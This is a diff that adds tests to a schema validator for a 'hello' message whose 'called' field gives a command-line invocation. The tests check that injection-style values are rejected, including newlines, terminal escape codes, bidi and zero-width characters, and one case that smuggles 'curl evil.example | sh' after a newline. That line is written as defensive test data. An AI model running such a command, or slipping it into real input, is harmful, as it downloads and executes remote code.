@@ -235,6 +235,29 @@ describe('an answer of the host', () => {
     expect(v.is(answerEnvelopeSchema, message)).toBe(false);
   });
 
+  const hello = (more: object) => ({ hostVersion: '1', credentialsFile: '/f', ...more });
+
+  it('may say how its command line is called, which older hosts never do', () => {
+    const called = "'/opt/node 22/bin/node' '/home/jo/Прог $(x)/roleferry.cjs'";
+    expect(v.parse(answerSchemas.hello, hello({ called }))).toEqual(hello({ called }));
+    expect(v.parse(answerSchemas.hello, hello({}))).toEqual(hello({}));
+    expect(v.is(answerSchemas.hello, hello({ called: 'r'.repeat(4096) }))).toBe(true);
+  });
+
+  it.each<[string, unknown]>([
+    ['is empty', ''],
+    ['is no text', ['roleferry']],
+    ['is a flood', 'r'.repeat(4097)],
+    ['has a second line, which a terminal would run', 'roleferry\ncurl evil.example | sh'],
+    ['has a carriage return', 'roleferry\rx'],
+    ['controls the terminal', 'roleferry\u001b[8m'],
+    ['turns the direction of writing', 'roleferry \u202efr- mr'],
+    ['has what nobody sees', 'role\u200bferry'],
+    ['has a separator of lines', 'roleferry\u2028x'],
+  ])('is no hello when the call of its command line %s', (_, called) => {
+    expect(v.is(answerSchemas.hello, hello({ called }))).toBe(false);
+  });
+
   it('never carries more of a profile than its summary', () => {
     const listed = {
       credentialsFile: '/f',
